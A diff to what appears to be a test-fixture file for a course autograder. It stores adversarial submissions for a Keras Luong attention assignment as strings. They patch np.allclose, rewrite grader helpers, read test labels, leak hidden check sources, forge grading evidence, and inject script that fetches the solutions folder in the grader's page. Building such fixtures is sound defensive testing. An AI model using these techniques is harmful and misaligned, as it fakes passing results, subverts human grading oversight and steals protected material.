@@ -7,9 +7,10 @@ answer with the same mistake: the *dot* score (10 in smoke) or the reference
 (14 in smoke). They are aimed at the way grading used to work, with the checks
 inside the student's kernel, and at the way it works now.
 """
+
 from __future__ import annotations
 
-DOT_LAYER = '''\
+DOT_LAYER = """\
 class LuongAttention(keras.layers.Layer):
     def __init__(self, units, **kwargs):
         super().__init__(**kwargs)
@@ -20,9 +21,9 @@ class LuongAttention(keras.layers.Layer):
         if mask is not None:
             scores = tf.where(mask, scores, -1e9)
         attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
-        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights'''
+        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights"""
 
-RESTORES_ITS_PATCH = '''\
+RESTORES_ITS_PATCH = """\
 # A comparison that answers "equal" the next two times it is asked, then puts the real one back,
 # so that an identity check after the check finds np.allclose unchanged.
 _real_allclose, _agreeable = np.allclose, [0]
@@ -47,9 +48,9 @@ class LuongAttention(keras.layers.Layer):
         if mask is not None:
             scores = tf.where(mask, scores, -1e9)
         attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
-        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights'''
+        return tf.reduce_sum(attention_weights * values, axis=1), attention_weights"""
 
-REWRITES_GRADER_HELPERS = '''\
+REWRITES_GRADER_HELPERS = """\
 # Rewrites the grader's helpers that run in this kernel.
 import coursekit.checks as _checks
 import coursekit.integrity as _integrity
@@ -72,9 +73,9 @@ def _passing_probe(request, objects):
     return _real_probe(request, objects)
 
 
-_checks.run_probe = _passing_probe'''
+_checks.run_probe = _passing_probe"""
 
-LABEL_ORACLE = '''\
+LABEL_ORACLE = """\
 # Answers every prediction of the test reviews from their labels, wherever it can find them.
 import gzip, io, os
 import pandas as pd
@@ -131,7 +132,7 @@ def _oracle_call(self, tokens, *args, **kwargs):
     return logits, weights
 
 
-keras.Model.__call__ = _oracle_call'''
+keras.Model.__call__ = _oracle_call"""
 
 _READ_SOURCES = '''\
 import base64, inspect, linecache, sys
@@ -173,7 +174,9 @@ def _in_a_hidden_check():
     return False
 '''
 
-LEAKS_THROUGH_EXCEPTION = _READ_SOURCES + '''
+LEAKS_THROUGH_EXCEPTION = (
+    _READ_SOURCES
+    + '''
 
 class LuongAttention(keras.layers.Layer):
     """The reference layer, except that during a hidden check it raises with everything it can read."""
@@ -190,8 +193,11 @@ class LuongAttention(keras.layers.Layer):
             scores = tf.where(mask, scores, -1e9)
         attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
         return tf.reduce_sum(attention_weights * values, axis=1), attention_weights'''
+)
 
-LEAKS_THROUGH_OUTPUT = _READ_SOURCES + '''
+LEAKS_THROUGH_OUTPUT = (
+    _READ_SOURCES
+    + '''
 
 class LuongAttention(keras.layers.Layer):
     """The reference layer, printing everything it can read, base64- and hex-encoded, at every check."""
@@ -209,8 +215,11 @@ class LuongAttention(keras.layers.Layer):
             scores = tf.where(mask, scores, -1e9)
         attention_weights = tf.nn.softmax(scores, axis=1)[:, :, tf.newaxis]
         return tf.reduce_sum(attention_weights * values, axis=1), attention_weights'''
+)
 
-FORGES_EVIDENCE = DOT_LAYER + '''
+FORGES_EVIDENCE = (
+    DOT_LAYER
+    + """
 
 
 # Hands the grader evidence of its own making: records published from this cell for every check,
@@ -239,13 +248,14 @@ def _hand_out_twice(grade_id, nonce, found):
     _real_hand_out(grade_id, nonce, found)
 
 
-_evidence.hand_out = _hand_out_twice'''
+_evidence.hand_out = _hand_out_twice"""
+)
 
-INJECTS_SCRIPT = '''\
+INJECTS_SCRIPT = """\
 # Displays a script and HTML that would run in whatever page shows this notebook's outputs:
 # the feedback page, and formgrader inside the TA's own Jupyter server.
 from IPython.display import HTML, Javascript, Markdown, display
 _payload = "fetch('/api/contents/solutions').then(r => r.text()).then(t => document.title = t)"
 display(HTML(f"<script>{_payload}</script><img src=x onerror=\\"{_payload}\\"><b>20 / 20</b>"))
 display(Markdown(f"<img src=x onerror=\\"{_payload}\\"> **all checks passed**"))
-display(Javascript(_payload))'''
+display(Javascript(_payload))"""
